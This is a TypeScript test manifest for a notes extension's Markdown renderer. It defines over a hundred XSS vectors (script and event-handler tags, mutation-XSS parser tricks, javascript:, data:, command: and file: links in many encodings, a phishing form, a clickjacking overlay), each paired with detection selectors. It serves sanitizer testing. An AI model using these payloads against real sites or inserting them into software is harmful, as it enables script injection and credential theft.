// The hostile-note corpus (issue 15): over a hundred vectors across raw HTML, mutation XSS, style,
// forms, link and image URL schemes in every encoding, code-fence info strings, mermaid directives and
// labels, front matter of the wrong types, quiz text, heading ids, DOM clobbering, very long and deeply
// nested input. This manifest is the one source: the committed notes in test/fixtures/hostile/ are
// rendered from it (the unit test checks they match byte for byte; run it with
// HOSTILE_REGENERATE=1 to rewrite them), and the very long or deeply nested notes are generated at test
// time by `writeHostileCorpus`.
//
// Every payload that ran would leave a trace a test can check: `window.__pwned = '<id>'` (in a frame:
// `parent.__pwned`), `document.title = 'PWNED <id>'`, a console line containing `PWNED`, or a request
// to `http://127.0.0.1:{{PORT}}/pwned/<id>` — `{{PORT}}` is replaced with a loopback listener's port
// (a protocol-relative URL reaches it over TLS: count any connection, not just well-formed requests).
// After each vector comes a paragraph `CANARY-<id>-END` that must still render.
import fs from 'node:fs';
import path from 'node:path';

export type HostileCategory =
  | 'raw-html' | 'mutation-xss' | 'style' | 'form' | 'link-scheme' | 'image-scheme' | 'code-fence'
  | 'mermaid-directive' | 'mermaid-label' | 'front-matter' | 'quiz' | 'heading-id' | 'dom-clobbering'
  | 'long-input' | 'deep-nesting';

export const HOSTILE_CATEGORIES: readonly HostileCategory[] = [
  'raw-html', 'mutation-xss', 'style', 'form', 'link-scheme', 'image-scheme', 'code-fence',
  'mermaid-directive', 'mermaid-label', 'front-matter', 'quiz', 'heading-id', 'dom-clobbering',
  'long-input', 'deep-nesting',
];

/**
 * What a payload that ran (or a panel it broke) would leave behind:
 * - `global`: `window.__pwned` (or the panel frame's `parent.__pwned`) is set to the vector id;
 * - `title`: `document.title` starts with `PWNED`;
 * - `console`: a console line contains `PWNED`;
 * - `request`: the loopback listener sees a request (or any connection) for `/pwned/<id>`;
 * - `command`: a VS Code command, URI or file would be opened or run if the link were followed (e.g. a
 *   new untitled editor, the Simple Browser, a file outside the note folders, a code block run);
 * - `labels`: the panel's own code-block button labels contain `PWNED`;
 * - `panel`: the panel's script stops or loses its own elements (no code buttons, no diagrams drawn,
 *   a heading deleted), or the note is hidden or covered; check `expectRender` of the vector's file,
 *   `mustRemainText` and that the canary is visible;
 * - `opens`: opening the note, building the tree or the quiz fails (a TypeError, an empty tree);
 * - `hang`: the server or panel does not answer in time (long and deep input).
 */
export type HostileTrace = 'global' | 'title' | 'console' | 'request' | 'command' | 'labels' | 'panel' | 'opens' | 'hang';

export interface HostileVector {
  id: string;
  category: HostileCategory;
  /** Path of the note from the corpus folder, `/`-separated. */
  file: string;
  /** `CANARY-<id>-END`: text after the vector that must still render (for quiz vectors: in the quiz). */
  canary: string;
  /** Where the canary is shown. */
  canaryIn: 'body' | 'quiz';
  description: string;
  traces: HostileTrace[];
  /** Only fires on user interaction (click, hover, focus): a test may click links and buttons. */
  needsInteraction?: boolean;
  /** CSS selectors that must match nothing inside the rendered note (`main.note-body`). */
  forbidden: string[];
  /** Text that must still be in the rendered note (e.g. a heading a script could delete). */
  mustRemainText?: string[];
  /** Markdown block of a body vector, exactly as in the file, `{{PORT}}` unreplaced. */
  payload?: string;
  /** Front-matter vectors: the YAML between the `---` lines. */
  frontMatter?: string;
  /** Quiz vectors: the YAML of the question (a list item, indented by two spaces). */
  quizItem?: string;
  /** Generated at test time (not committed): very long or deeply nested input, or binary bytes. */
  generated?: boolean;
  /** The file holds a NUL byte, so it is not text: the product reports it instead of rendering it. */
  binary?: boolean;
}

export interface HostileFile {
  /** Path from the corpus folder. */
  file: string;
  /** The note id the file declares (undefined when the front matter is the vector and has no usable id). */
  noteId?: string;
  title: string;
  vectors: HostileVector[];
  /** What the note's render should report (`panel.lastRender`), where the file controls it. */
  expectRender?: { diagrams: number; failed: number };
  /** The note's text, `{{PORT}}` unreplaced. */
  text(): string;
}

export const PORT_PLACEHOLDER = '{{PORT}}';

// ---------------------------------------------------------------------------------------------
// Payload helpers (the committed .md files show the results)

const P = PORT_PLACEHOLDER;
const loopback = (id: string): string => `http://127.0.0.1:${P}/pwned/${id}`;
const pwn = (id: string): string => `window.__pwned='${id}'`;
const b64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');
const svgData = (svg: string): string => `data:image/svg+xml,${encodeURIComponent(svg).split(encodeURIComponent(P)).join(P)}`;
/** The canary after vector `id`; the `-END` keeps one canary from being a prefix of another. */
export const canaryOf = (id: string): string => `CANARY-${id}-END`;
const fence = (info: string, ...lines: string[]): string => ['```' + info, ...lines, '```'].join('\n');
const mermaid = (...lines: string[]): string => fence('mermaid', ...lines);

const SCRIPTY = ['script', '[onerror]', '[onload]'];
const LINKY = ['a[href^="javascript:" i]', 'a[href^="vbscript:" i]', 'a[href^="data:" i]', 'a[href^="command:" i]', 'a[href^="vscode:" i]', 'a[href^="file:" i]'];
const IMAGEY = ['img[src^="javascript:" i]', 'img[src^="data:" i]', 'img[src^="http:" i]', 'img[src^="//"]', 'img[src^="file:" i]', 'img[src*="etc/passwd"]'];
const FORMY = ['form', 'input', 'button:not(.code-actions > button)', 'select', 'textarea', '[formaction]', '[action]'];
const STYLEY = ['[style*="url(" i]', '[style*="expression" i]', '[style*="binding" i]', '[style*="position" i]'];
const DIAGRAMY = ['.diagram-output foreignObject', '.diagram-output script', '.diagram-output iframe', '.diagram-output form', '.diagram-output img', '.diagram-output [onerror]', '.diagram-output a[href^="javascript:" i]', '.diagram-output a[*|href^="javascript:" i]'];

interface Spec {
  payload?: string;
  frontMatter?: string;
  quizItem?: string;
  forbidden?: string[];
  traces?: HostileTrace[];
  needsInteraction?: boolean;
  mustRemainText?: string[];
}

/** Traces read off the payload, plus any given explicitly. */
function tracesOf(text: string, extra: HostileTrace[] = []): HostileTrace[] {
  const traces = new Set<HostileTrace>(extra);
  if (/__pwned|&#119;&#105;ndow/.test(text)) traces.add('global');
  if (/document\.title/.test(text)) traces.add('title');
  if (/console\.log/.test(text)) traces.add('console');
  if (/\/pwned\/|%2Fpwned%2F/.test(text)) traces.add('request');
  if (/command:/i.test(text)) traces.add('command');
  const order: HostileTrace[] = ['global', 'title', 'console', 'request', 'command', 'labels', 'panel', 'opens', 'hang'];
  return order.filter((trace) => traces.has(trace));
}

function vector(id: string, category: HostileCategory, file: string, description: string, spec: Spec, group: { forbidden?: string[]; traces?: HostileTrace[]; needsInteraction?: boolean } = {}): HostileVector {
  const text = spec.payload ?? spec.frontMatter ?? spec.quizItem ?? '';
  return {
    id, category, file, canary: canaryOf(id), canaryIn: spec.quizItem ? 'quiz' : 'body', description,
    traces: tracesOf(text, [...(group.traces ?? []), ...(spec.traces ?? [])]), needsInteraction: spec.needsInteraction ?? group.needsInteraction,
    forbidden: [...new Set([...(group.forbidden ?? []), ...(spec.forbidden ?? [])])],
    mustRemainText: spec.mustRemainText, payload: spec.payload, frontMatter: spec.frontMatter, quizItem: spec.quizItem,
  };
}

// ---------------------------------------------------------------------------------------------
// Body vectors, grouped by file

type Row = [id: string, description: string, spec: Spec];

const RAW_HTML_SCRIPT: Row[] = [
  ['html-script', 'A script element.', { payload: `<script>${pwn('html-script')}</script>`, forbidden: ['script'] }],
  ['html-script-src', 'A script element loading from the loopback listener.', { payload: `<script src="${loopback('html-script-src')}"></script>`, forbidden: ['script'] }],
  ['html-script-uppercase', 'An upper-case SCRIPT element setting the title.', { payload: `<SCRIPT>document.title='PWNED html-script-uppercase'</SCRIPT>`, forbidden: ['script'] }],
  ['html-script-inline', 'A script element inside a paragraph.', { payload: `正文里夹着 <script>${pwn('html-script-inline')}</script> 一段脚本。`, forbidden: ['script'] }],
  ['html-script-in-list', 'A script element inside a list item.', { payload: `- 列表项 <script>${pwn('html-script-in-list')}</script>`, forbidden: ['script'] }],
  ['html-img-onerror', 'An image whose error handler runs.', { payload: `<img src="x" onerror="${pwn('html-img-onerror')}">`, forbidden: ['[onerror]'] }],
  ['html-img-onerror-unquoted', 'Unquoted attributes; the handler logs the alt text.', { payload: '<img src=x onerror=console.log(this.alt) alt=PWNED-html-img-onerror-unquoted>', forbidden: ['[onerror]'] }],
  ['html-img-onerror-entities', 'A handler spelled with character references.', { payload: `<img src="x" onerror="&#119;&#105;ndow.__pwned='html-img-onerror-entities'">`, forbidden: ['[onerror]'] }],
  ['html-img-onerror-uppercase', 'Upper-case tag and attribute names.', { payload: `<IMG SRC="x" ONERROR="${pwn('html-img-onerror-uppercase')}">`, forbidden: ['[onerror]'] }],
  ['html-img-onload', 'A valid inline GIF whose load handler runs.', { payload: `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="${pwn('html-img-onload')}">`, forbidden: ['[onload]', 'img[src^="data:" i]'] }],
  ['html-svg-onload', 'An SVG load handler.', { payload: `<svg onload="${pwn('html-svg-onload')}"><circle r="5"/></svg>`, forbidden: ['[onload]'] }],
  ['html-svg-script', 'A script inside SVG.', { payload: `<svg><script>${pwn('html-svg-script')}</script></svg>`, forbidden: ['script', 'svg script'] }],
  ['html-svg-animate', 'An SVG animation begin handler.', { payload: `<svg><animate onbegin="${pwn('html-svg-animate')}" attributeName="x" dur="1s"/></svg>`, forbidden: ['animate', '[onbegin]'] }],
  ['html-svg-set-href', 'SVG <set> turning a link into javascript:.', { payload: `<svg><a><set attributeName="href" to="javascript:${pwn('html-svg-set-href')}"/><text x="10" y="20">点我</text></a></svg>`, forbidden: ['set', 'svg a'], needsInteraction: true }],
  ['html-svg-xlink', 'An SVG link with xlink:href javascript:.', { payload: `<svg><a xlink:href="javascript:${pwn('html-svg-xlink')}"><text x="10" y="20">点我</text></a></svg>`, forbidden: ['svg a'], needsInteraction: true }],
  ['html-svg-use-data', 'SVG <use> of a data: document holding an image with a handler.', {
    payload: `<svg><use href="${svgData(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${pwn('html-svg-use-data')}"/></svg>`)}#x"/></svg>`,
    forbidden: ['use'],
  }],
  ['html-iframe-javascript', 'A frame with a javascript: source.', { payload: `<iframe src="javascript:parent.__pwned='html-iframe-javascript'"></iframe>`, forbidden: ['iframe'] }],
  ['html-iframe-srcdoc', 'A frame whose srcdoc holds a script.', { payload: `<iframe srcdoc="&lt;script&gt;parent.__pwned='html-iframe-srcdoc'&lt;/script&gt;"></iframe>`, forbidden: ['iframe', '[srcdoc]'] }],
  ['html-a-onclick', 'A link with a click handler.', { payload: `<a href="#" onclick="${pwn('html-a-onclick')}">点这里</a>`, forbidden: ['[onclick]'], needsInteraction: true }],
  ['html-a-onmouseover', 'A link with a hover handler.', { payload: `<a onmouseover="${pwn('html-a-onmouseover')}">移到这里</a>`, forbidden: ['[onmouseover]'], needsInteraction: true }],
  ['html-details-ontoggle', 'An open <details> whose toggle handler runs at once.', { payload: `<details open ontoggle="${pwn('html-details-ontoggle')}"><summary>展开</summary>内容</details>`, forbidden: ['[ontoggle]'] }],
  ['html-body-onload', 'A <body> with a load handler.', { payload: `<body onload="${pwn('html-body-onload')}">`, forbidden: ['[onload]', 'main body'] }],
  ['html-input-autofocus', 'An autofocused input with a focus handler.', { payload: `<input autofocus onfocus="${pwn('html-input-autofocus')}">`, forbidden: ['input', '[onfocus]', '[autofocus]'] }],
  ['html-video-source-onerror', 'A video source error handler.', { payload: `<video><source onerror="${pwn('html-video-source-onerror')}"></video>`, forbidden: ['video', 'source', '[onerror]'] }],
  ['html-marquee-onstart', 'A marquee start handler.', { payload: `<marquee onstart="${pwn('html-marquee-onstart')}">滚动</marquee>`, forbidden: ['marquee', '[onstart]'] }],
  ['html-popover-onbeforetoggle', 'A popover opened by a button, with a toggle handler.', { payload: `<button popovertarget="pop">打开</button><div id="pop" popover onbeforetoggle="${pwn('html-popover-onbeforetoggle')}">弹出</div>`, forbidden: ['[onbeforetoggle]', '[popover]', '[popovertarget]'], needsInteraction: true }],
];

const RAW_HTML_EMBED: Row[] = [
  ['html-iframe-remote', 'A frame loading the loopback listener.', { payload: `<iframe src="${loopback('html-iframe-remote')}"></iframe>`, forbidden: ['iframe'] }],
  ['html-object-remote', 'An object loading the loopback listener.', { payload: `<object data="${loopback('html-object-remote')}"></object>`, forbidden: ['object'] }],
  ['html-object-javascript', 'An object with javascript: data.', { payload: `<object data="javascript:${pwn('html-object-javascript')}"></object>`, forbidden: ['object'] }],
  ['html-embed-remote', 'An embed loading the loopback listener.', { payload: `<embed src="${loopback('html-embed-remote')}">`, forbidden: ['embed'] }],
  ['html-embed-svg', 'An embedded SVG document that loads an image from the loopback listener.', { payload: `<embed type="image/svg+xml" src="${svgData(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${loopback('html-embed-svg')}"/></svg>`)}">`, forbidden: ['embed'], traces: ['request'] }],
  ['html-link-stylesheet', 'A stylesheet link to the loopback listener.', { payload: `<link rel="stylesheet" href="${loopback('html-link-stylesheet')}">`, forbidden: ['link'] }],
  ['html-link-prefetch', 'A prefetch link to the loopback listener.', { payload: `<link rel="prefetch" href="${loopback('html-link-prefetch')}">`, forbidden: ['link'] }],
  ['html-audio-autoplay', 'Autoplaying audio from the loopback listener.', { payload: `<audio src="${loopback('html-audio-autoplay')}" autoplay></audio>`, forbidden: ['audio'] }],
  ['html-video-poster', 'A video poster from the loopback listener.', { payload: `<video poster="${loopback('html-video-poster')}"></video>`, forbidden: ['video', '[poster]'] }],
  ['html-img-srcset', 'An image srcset on the loopback listener.', { payload: `<img srcset="${loopback('html-img-srcset')} 1x" alt="srcset">`, forbidden: ['[srcset]'] }],
  ['html-picture-source', 'A <picture> source on the loopback listener.', { payload: `<picture><source srcset="${loopback('html-picture-source')}"><img alt="picture"></picture>`, forbidden: ['source', '[srcset]'] }],
  ['html-table-background', 'A legacy table background attribute.', { payload: `<table background="${loopback('html-table-background')}"><tr><td>表格</td></tr></table>`, forbidden: ['[background]'] }],
  ['html-input-image', 'An image input from the loopback listener.', { payload: `<input type="image" src="${loopback('html-input-image')}">`, forbidden: ['input'] }],
  ['html-frameset', 'A frameset with a load handler.', { payload: `<frameset onload="${pwn('html-frameset')}"><frame src="${loopback('html-frameset')}"></frameset>`, forbidden: ['frameset', 'frame'] }],
  ['html-a-ping', 'A link that pings the loopback listener when followed.', { payload: `<a href="https://example.com/" ping="${loopback('html-a-ping')}">带 ping 的链接</a>`, forbidden: ['[ping]'], needsInteraction: true }],
];

const RAW_HTML_MATH_TEMPLATE: Row[] = [
  ['math-href', 'A MathML element with a javascript: href.', { payload: `<math><mi href="javascript:${pwn('math-href')}">点我</mi></math>`, forbidden: ['math', '[href^="javascript:" i]'], needsInteraction: true }],
  ['math-maction', 'A MathML maction with an xlink:href.', { payload: `<math><maction actiontype="statusline" xlink:href="javascript:${pwn('math-maction')}"><mtext>点我</mtext></maction></math>`, forbidden: ['math', 'maction'], needsInteraction: true }],
  ['math-annotation-xml', 'HTML inside a MathML annotation-xml.', { payload: `<math><annotation-xml encoding="text/html"><img src="x" onerror="${pwn('math-annotation-xml')}"></annotation-xml></math>`, forbidden: ['math', '[onerror]'] }],
  ['template-content', 'A template whose content is inert until cloned.', { payload: `<template><img src="x" onerror="${pwn('template-content')}"></template>`, forbidden: ['template'] }],
  ['template-shadowroot', 'A declarative shadow root holding a handler.', { payload: `<div><template shadowrootmode="open"><img src="x" onerror="${pwn('template-shadowroot')}"></template></div>`, forbidden: ['template', '[shadowrootmode]'] }],
  ['template-script', 'A script inside a template.', { payload: `<template><script>${pwn('template-script')}</script></template>`, forbidden: ['template', 'script'] }],
];

const MUTATION_XSS: Row[] = [
  ['mxss-noscript', 'A title attribute that closes <noscript> when re-parsed.', { payload: `<noscript><p title="</noscript><img src=x onerror=${pwn('mxss-noscript')}>"></noscript>`, forbidden: ['noscript', '[onerror]'] }],
  ['mxss-mglyph-style', 'mglyph/style namespace confusion inside MathML.', { payload: `<math><mtext><table><mglyph><style><img src="x" onerror="${pwn('mxss-mglyph-style')}"></style></mglyph></table></mtext></math>`, forbidden: ['math', 'style', '[onerror]'] }],
  ['mxss-svg-style', 'A style in SVG whose text becomes markup once moved to HTML.', { payload: `<svg></p><style><a id="</style><img src=1 onerror=${pwn('mxss-svg-style')}>">`, forbidden: ['style', '[onerror]'] }],
  ['mxss-svg-p-style', 'A <p> that breaks out of SVG, taking a style with it.', { payload: `<svg><p><style><img src="x" onerror="${pwn('mxss-svg-p-style')}"></style></p></svg>`, forbidden: ['style', '[onerror]'] }],
  ['mxss-textarea', 'A title attribute that closes <textarea> when re-parsed.', { payload: `<textarea><img title="</textarea><img src=x onerror=${pwn('mxss-textarea')}>"></textarea>`, forbidden: ['textarea', '[onerror]'] }],
  ['mxss-title', 'A title attribute that closes <title> when re-parsed.', { payload: `<title><img title="</title><img src=x onerror=${pwn('mxss-title')}>"></title>`, forbidden: ['title', '[onerror]'] }],
  ['mxss-xmp', 'A title attribute that closes <xmp> when re-parsed.', { payload: `<xmp><img title="</xmp><img src=x onerror=${pwn('mxss-xmp')}>"></xmp>`, forbidden: ['xmp', '[onerror]'] }],
  ['mxss-iframe-content', 'A title attribute that closes <iframe> when re-parsed.', { payload: `<iframe><img title="</iframe><img src=x onerror=${pwn('mxss-iframe-content')}>"></iframe>`, forbidden: ['iframe', '[onerror]'] }],
  ['mxss-comment-abrupt', 'An abruptly closed comment <!--> before markup.', { payload: `<!--><img src="x" onerror="${pwn('mxss-comment-abrupt')}">-->`, forbidden: ['[onerror]'] }],
  ['mxss-cdata', 'A CDATA section in SVG hiding a tag from a sanitizer.', { payload: `<svg><![CDATA[><img src="x" onerror="${pwn('mxss-cdata')}">]]></svg>`, forbidden: ['[onerror]'] }],
  ['mxss-form-nesting', 'Nested forms and MathML that re-parse differently.', { payload: `<form><math><mtext></form><form><mglyph><style></math><img src="x" onerror="${pwn('mxss-form-nesting')}">`, forbidden: ['form', 'math', '[onerror]'] }],
  ['mxss-select-template', 'A template inside a select, with a commented-out style.', { payload: `<select><template><style><!--</style><img src="x" onerror="${pwn('mxss-select-template')}"><!--</style></template></select>`, forbidden: ['select', 'template', '[onerror]'] }],
];

const STYLE: Row[] = [
  ['style-tag-import', 'A style element importing from the loopback listener.', { payload: `<style>@import url("${loopback('style-tag-import')}");</style>`, forbidden: ['style:not(.diagram-output style)'] }],
  ['style-tag-background', 'A style element with a background from the loopback listener.', { payload: `<style>.note-body h1 { background: url("${loopback('style-tag-background')}") }</style>`, forbidden: ['style:not(.diagram-output style)'] }],
  ['style-tag-font-face', 'A web font from the loopback listener.', { payload: `<style>@font-face { font-family: pwned; src: url("${loopback('style-tag-font-face')}") } body { font-family: pwned }</style>`, forbidden: ['style:not(.diagram-output style)'] }],
  ['style-attr-url', 'A style attribute with a background from the loopback listener.', { payload: `<div style="background-image: url('${loopback('style-attr-url')}')">背景</div>`, forbidden: STYLEY }],
  ['style-attr-expression', 'A legacy CSS expression().', { payload: `<div style="width: expression(${pwn('style-attr-expression')})">宽度</div>`, forbidden: STYLEY }],
  ['style-attr-moz-binding', 'A legacy -moz-binding.', { payload: `<div style="-moz-binding: url('${loopback('style-attr-moz-binding')}')">绑定</div>`, forbidden: STYLEY }],
  ['style-attr-entity-url', 'url( spelled with a character reference.', { payload: `<div style="background: &#117;rl(${loopback('style-attr-entity-url')})">实体</div>`, forbidden: STYLEY }],
  ['style-attr-css-escape', 'url( spelled with a CSS escape.', { payload: `<div style="background: u\\72l(${loopback('style-attr-css-escape')})">转义</div>`, forbidden: ['[style*="u\\\\72l" i]', ...STYLEY] }],
  ['style-svg-style', 'A style element inside SVG importing from the loopback listener.', { payload: `<svg><style>@import url("${loopback('style-svg-style')}");</style><text y="20">SVG</text></svg>`, forbidden: ['style:not(.diagram-output style)'] }],
];

const STYLE_HIDE: Row[] = [
  ['style-hide-content', 'A style element hiding the note and the panel\'s buttons.', { traces: ['panel'], payload: '<style>main, .note-body, .code-actions, .diagram { display: none !important }</style>', forbidden: ['style:not(.diagram-output style)'] }],
];

const STYLE_OVERLAY: Row[] = [
  ['style-overlay', 'A full-window overlay asking for a click (clickjacking).', { traces: ['panel'], payload: '<div style="position: fixed; inset: 0; z-index: 2147483647; background: #fff">PWNED-OVERLAY 会话已过期，点击任意处继续</div>', forbidden: STYLEY }],
];

const FORM: Row[] = [
  ['form-post-loopback', 'A form posting to the loopback listener, with inputs and a button.', { payload: `<form action="${loopback('form-post-loopback')}" method="post"><input name="secret" value="token"><input type="hidden" name="h" value="1"><button type="submit">提交</button></form>`, forbidden: FORMY, needsInteraction: true }],
  ['form-javascript-action', 'A form with a javascript: action.', { payload: `<form action="javascript:${pwn('form-javascript-action')}"><button>提交</button></form>`, forbidden: FORMY, needsInteraction: true }],
  ['form-button-formaction', 'A button whose formaction points at the loopback listener.', { payload: `<form id="hostile-form"></form><button form="hostile-form" formaction="${loopback('form-button-formaction')}">提交</button>`, forbidden: FORMY, needsInteraction: true }],
  ['form-input-formaction', 'A submit input with a javascript: formaction.', { payload: `<form><input type="submit" formaction="javascript:${pwn('form-input-formaction')}" value="提交"></form>`, forbidden: FORMY, needsInteraction: true }],
  ['form-password-phishing', 'A fake login form asking for a password.', { payload: '<form action="https://example.com/login"><p>会话已过期，请重新登录</p><input type="password" name="pw" placeholder="密码"><button>登录</button></form>', forbidden: FORMY }],
  ['form-controls', 'Bare select and textarea controls.', { payload: '<select><option>一</option><option>二</option></select><textarea>文本</textarea>', forbidden: FORMY }],
];

const FORM_AUTOSUBMIT: Row[] = [
  ['form-autosubmit', 'A form that submits itself to the loopback listener when its input gets focus.', { payload: `<form action="${loopback('form-autosubmit')}"><input name="q" value="1" autofocus onfocus="this.form.submit()"></form>`, forbidden: [...FORMY, '[onfocus]'] }],
];

const RAW_HTML_BASE: Row[] = [
  ['html-base', 'A <base> that would send every relative URL after it to the loopback listener.', { payload: `<base href="${loopback('html-base')}/">\n\n![相对图片](relative.png) [相对链接](relative.md)`, forbidden: ['base', 'img[src*="/pwned/"]'] }],
];

const RAW_HTML_META: Row[] = [
  ['html-meta-refresh', 'A <meta> refresh navigating the panel to the loopback listener.', { payload: `<meta http-equiv="refresh" content="0;url=${loopback('html-meta-refresh')}">`, forbidden: ['meta'] }],
];

const LINK_SCHEME: Row[] = [
  ['link-javascript', 'A javascript: link.', { payload: `[点我](javascript:${pwn('link-javascript')})` }],
  ['link-javascript-mixed-case', 'Mixed-case scheme.', { payload: `[点我](JaVaScRiPt:${pwn('link-javascript-mixed-case')})` }],
  ['link-javascript-entity-dec', 'Decimal character reference for the first letter.', { payload: `[点我](&#106;avascript:${pwn('link-javascript-entity-dec')})` }],
  ['link-javascript-entity-hex', 'Hexadecimal character reference for the first letter.', { payload: `[点我](&#x6A;avascript:${pwn('link-javascript-entity-hex')})` }],
  ['link-javascript-entity-padded', 'Zero-padded decimal references.', { payload: `[点我](&#0000106;&#0000097;vascript:${pwn('link-javascript-entity-padded')})` }],
  ['link-javascript-entity-colon', 'The colon as a named reference.', { payload: `[点我](javascript&colon;${pwn('link-javascript-entity-colon')})` }],
  ['link-javascript-tab-entity', 'A tab reference inside the scheme.', { payload: `[点我](java&#9;script:${pwn('link-javascript-tab-entity')})` }],
  ['link-javascript-tab-literal', 'A literal tab inside the scheme (angle-bracket destination).', { payload: `[点我](<java\tscript:${pwn('link-javascript-tab-literal')}>)` }],
  ['link-javascript-newline-entity', 'A line feed reference inside the scheme.', { payload: `[点我](java&#10;script:${pwn('link-javascript-newline-entity')})` }],
  ['link-javascript-cr-entity', 'A carriage return reference inside the scheme.', { payload: `[点我](java&#13;script:${pwn('link-javascript-cr-entity')})` }],
  ['link-javascript-null-entity', 'A NUL reference inside the scheme (CommonMark turns it into U+FFFD).', { payload: `[点我](java&#0;script:${pwn('link-javascript-null-entity')})` }],
  ['link-javascript-percent-colon', 'A percent-encoded colon.', { payload: `[点我](javascript%3A${pwn('link-javascript-percent-colon')})` }],
  ['link-javascript-percent-scheme', 'A percent-encoded first letter.', { payload: `[点我](%6Aavascript:${pwn('link-javascript-percent-scheme')})` }],
  ['link-javascript-leading-spaces', 'Leading spaces (angle-bracket destination).', { payload: `[点我](<  javascript:${pwn('link-javascript-leading-spaces')}>)` }],
  ['link-javascript-leading-entity-space', 'A leading space reference.', { payload: `[点我](&#32;javascript:${pwn('link-javascript-leading-entity-space')})` }],
  ['link-javascript-leading-control', 'A leading control character reference.', { payload: `[点我](&#x1;javascript:${pwn('link-javascript-leading-control')})` }],
  ['link-javascript-backslash-escape', 'A backslash-escaped colon.', { payload: `[点我](javascript\\:${pwn('link-javascript-backslash-escape')})` }],
  ['link-javascript-reference', 'A reference-style link definition.', { payload: `[点我][evil]\n\n[evil]: javascript:${pwn('link-javascript-reference')}` }],
  ['link-javascript-autolink', 'An autolink.', { payload: `<javascript:${pwn('link-javascript-autolink')}>` }],
  ['link-javascript-bare-text', 'Bare text a linkifier could turn into a link.', { payload: `纯文本 javascript:${pwn('link-javascript-bare-text')} 不应变成链接。` }],
  ['link-javascript-html-a', 'An HTML link.', { payload: `<a href="javascript:${pwn('link-javascript-html-a')}">HTML 链接</a>` }],
  ['link-javascript-html-entities', 'An HTML link with references in the scheme and colon.', { payload: `<a href="&#x6A;avascript&#x3A;${pwn('link-javascript-html-entities')}">HTML 实体链接</a>` }],
  ['link-javascript-html-tab', 'An HTML link with a tab reference in the scheme.', { payload: `<a href="java&#x09;script:${pwn('link-javascript-html-tab')}">HTML 制表符链接</a>` }],
  ['link-javascript-html-newline', 'An HTML link with a literal line break in the scheme.', { payload: `<a href="java\nscript:${pwn('link-javascript-html-newline')}">HTML 换行链接</a>` }],
  ['link-data-html', 'A data: HTML document.', { traces: ['global'], payload: `[点我](data:text/html;base64,${b64(`<script>${pwn('link-data-html')}</script>`)})` }],
  ['link-data-uppercase', 'An upper-case DATA: URL.', { payload: `[点我](DATA:text/html,%3Cscript%3Ewindow.__pwned%3D'link-data-uppercase'%3C/script%3E)` }],
  ['link-data-entity', 'A character reference in data:.', { payload: `[点我](&#100;ata:text/html,%3Cscript%3Ewindow.__pwned%3D'link-data-entity'%3C/script%3E)` }],
  ['link-vbscript', 'A vbscript: link (only old engines run it; the href must not stay).', { payload: `[点我](vbscript:MsgBox("PWNED link-vbscript"))` }],
  ['link-vbscript-uppercase', 'An upper-case VBSCRIPT: link.', { payload: `[点我](VBSCRIPT:${pwn('link-vbscript-uppercase')})` }],
  ['link-vbscript-entity', 'A character reference in vbscript:.', { payload: `[点我](&#118;bscript:${pwn('link-vbscript-entity')})` }],
  ['link-command', 'A VS Code command link.', { payload: '[点我](command:workbench.action.files.newUntitledFile)' }],
  ['link-command-arguments', 'A command link opening the loopback listener in the Simple Browser.', { payload: `[点我](command:simpleBrowser.show?%5B%22http%3A%2F%2F127.0.0.1%3A${P}%2Fpwned%2Flink-command-arguments%22%5D)` }],
  ['link-command-uppercase', 'An upper-case COMMAND: link.', { payload: '[点我](COMMAND:workbench.action.files.newUntitledFile)' }],
  ['link-command-entity', 'A character reference in command:.', { traces: ['command'], payload: '[点我](&#99;ommand:workbench.action.files.newUntitledFile)' }],
  ['link-command-html', 'An HTML command link.', { payload: '<a href="command:workbench.action.files.newUntitledFile">HTML 命令链接</a>' }],
  ['link-command-reference', 'A reference definition with a command.', { payload: '[点我][cmd]\n\n[cmd]: command:workbench.action.files.newUntitledFile' }],
  ['link-vscode', 'A vscode: URI.', { traces: ['command'], payload: '[点我](vscode:extension/study-notes-team.study-notes)' }],
  ['link-vscode-file', 'A vscode://file URI for a system file.', { traces: ['command'], payload: '[点我](vscode://file/etc/passwd)' }],
  ['link-vscode-entity', 'A character reference in vscode:.', { traces: ['command'], payload: '[点我](&#118;scode://file/etc/passwd)' }],
  ['link-vscode-uppercase', 'An upper-case VSCODE: URI.', { traces: ['command'], payload: '[点我](VSCODE://file/etc/passwd)' }],
  ['link-file', 'A file: URL.', { traces: ['command'], payload: '[点我](file:///etc/passwd)' }],
  ['link-title-breakout', 'A link title that tries to close its attribute.', { payload: `[点我](https://example.com/ "\\" onmouseover=\\"${pwn('link-title-breakout')}")`, forbidden: ['[onmouseover]'] }],
  ['link-text-html', 'HTML inside link text.', { payload: `[<img src="x" onerror="${pwn('link-text-html')}">](https://example.com/)`, forbidden: ['[onerror]'] }],
  ['link-note-quote', 'A note: link whose id tries to close its attribute.', { payload: `[点我](<note:x" onclick="${pwn('link-note-quote')}>)`, forbidden: ['[onclick]'] }],
  ['link-relative-quote', 'A relative link whose path tries to close its attribute.', { payload: `[点我](<a.md" onclick="${pwn('link-relative-quote')}>)`, forbidden: ['[onclick]'] }],
  ['link-traversal', 'A relative link leading out of the note folders.', { traces: ['command'], payload: '[点我](../../../../../../../../etc/passwd)', forbidden: ['a[data-note-id*="passwd"]'] }],
];

const IMAGE_SCHEME: Row[] = [
  ['img-javascript', 'A javascript: image.', { payload: `![图](javascript:${pwn('img-javascript')})` }],
  ['img-javascript-entity', 'A javascript: image with a character reference.', { payload: `![图](&#x6A;avascript:${pwn('img-javascript-entity')})` }],
  ['img-javascript-mixed-case', 'A mixed-case JavaScript: image.', { payload: `![图](JaVaScRiPt:${pwn('img-javascript-mixed-case')})` }],
  ['img-javascript-tab-entity', 'A tab reference inside the scheme of an image.', { payload: `![图](java&#9;script:${pwn('img-javascript-tab-entity')})` }],
  ['img-javascript-leading-spaces', 'Leading spaces before an image\'s javascript: URL.', { payload: `![图](<  javascript:${pwn('img-javascript-leading-spaces')}>)` }],
  ['img-vscode', 'A vscode: image.', { payload: '![图](vscode://file/etc/passwd)', forbidden: ['img[src^="vscode:" i]'] }],
  ['img-vbscript', 'A vbscript: image.', { payload: `![图](vbscript:${pwn('img-vbscript')})` }],
